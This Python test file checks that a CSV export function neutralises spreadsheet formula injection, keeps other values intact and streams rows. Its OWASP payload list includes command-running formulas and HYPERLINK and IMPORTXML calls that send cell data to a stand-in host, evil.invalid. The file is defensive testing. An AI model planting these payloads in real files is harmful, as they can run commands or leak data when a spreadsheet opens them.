"""CSV exports: formula injection neutralised (OWASP payloads), numbers kept, streamed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
from collections.abc import Iterator, Sequence

import pytest

from hotline.runtime.exports import Cell, csv_chunks, safe_cell

# From OWASP's "CSV Injection" page and its references: each would run or call out if a
# spreadsheet evaluated it.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid?leak="&A1&A2, "Error: please click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "\t=1+2",
    "\r=1+2",
    '=IMPORTXML(CONCAT("http://evil.invalid/?v=", CONCATENATE(A2:E2)), "//a")',
    "-",
    "=",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_cell_that_could_be_a_formula_is_quoted(payload: str) -> None:
    cell = safe_cell(payload)
    assert cell == "'" + payload
    # And in the file, read back, it still starts with the quote, not with the formula.
    back = _read(csv_chunks(["text"], [[payload]]))
    assert back[1][0] == "'" + payload


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Central High", "Central High"),
        ("a=b", "a=b"),  # only the first character makes a formula
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (-5, -5),  # a negative number stays a number
        (2.5, 2.5),
        (True, "yes"),
        (dt.date(2026, 11, 27), "2026-11-27"),
        (dt.datetime(2026, 11, 27, 9, 30, tzinfo=dt.UTC), "2026-11-27T09:30:00+00:00"),
    ],
)
def test_other_cells_are_written_as_they_are(value: Cell, written: object) -> None:
    assert safe_cell(value) == written


def test_headers_commas_quotes_and_line_breaks_survive_a_round_trip() -> None:
    rows: list[Sequence[Cell]] = [["a, b", 'say "hi"', "two\nlines"], ["=1", -3, None]]
    back = _read(csv_chunks(["one", "two", "+three"], rows))
    assert back == [
        ["one", "two", "'+three"],
        ["a, b", 'say "hi"', "two\nlines"],
        ["'=1", "-3", ""],
    ]


def test_rows_are_streamed_not_gathered() -> None:
    produced = 0

    def rows() -> Iterator[Sequence[Cell]]:
        nonlocal produced
        for n in itertools.count():
            produced += 1
            yield [n, "row"]

    chunks = csv_chunks(["n", "what"], rows())
    first = next(chunks)
    # The first chunk leaves after a bounded number of rows, long before an endless source
    # ends: nothing collects them all first.
    assert produced <= 501
    assert first.startswith("\ufeffn,what\r\n".encode())


def _read(chunks: Iterator[bytes]) -> list[list[str]]:
    text = b"".join(chunks).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))
